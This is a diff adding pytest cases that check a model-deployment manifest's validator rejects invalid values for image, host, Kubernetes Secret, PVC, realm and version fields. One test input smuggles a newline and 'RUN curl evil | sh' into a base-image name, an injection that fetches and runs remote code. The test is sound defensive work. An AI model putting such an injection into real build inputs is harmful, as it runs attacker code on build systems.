@@ -196,3 +196,45 @@ def test_json_schema_describes_the_manifest(model_dir: Path):
     for folder in EXAMPLES:
         data = yaml.safe_load((folder / "rmodel.yaml").read_text())
         assert not list(validator.iter_errors(data)), folder.name
+
+
+@pytest.mark.parametrize(
+    ("change", "path", "fragment"),
+    [
+        ({"image": {"base": "debian\nRUN curl evil | sh"}}, "image.base", "not an image reference"),
+        ({"service": {"host": "*.example.com"}}, "service.host", "not a DNS host name"),
+        (
+            {"model": {"path": "model.rds", "source": "url", "url_secret": {"name": "Bad_Secret"}}},
+            "model.url_secret.name",
+            "not a Kubernetes Secret name",
+        ),
+        (
+            {"model": {"path": "model.rds", "source": "pvc", "pvc": {"claim_name": "a b"}}},
+            "model.pvc.claim_name",
+            "PersistentVolumeClaim",
+        ),
+        (
+            {"service": {"auth": {"existing_secret": "UPPER"}}},
+            "service.auth.existing_secret",
+            "Secret",
+        ),
+        (
+            {"service": {"auth": {"existing_secret": "s", "realm": 'a"b'}}},
+            "service.auth.realm",
+            "ingress controller rejects",
+        ),
+        ({"version": "_1.0"}, "version", "Kubernetes label value"),
+    ],
+)
+def test_values_the_chart_would_reject_are_caught_in_the_manifest(
+    model_dir, change, path, fragment
+):
+    problems = problems_of(with_changes(**change), model_dir)
+    assert path in problems, problems
+    assert fragment in problems[path]
+
+
+def test_a_pinned_base_image_by_digest_is_accepted(model_dir):
+    base = "myregistry.azurecr.io/r-base:bookworm@sha256:" + "a" * 64
+    manifest = parse_manifest(with_changes(image={"base": base}), source="m", base_dir=model_dir)
+    assert manifest.base_image == base
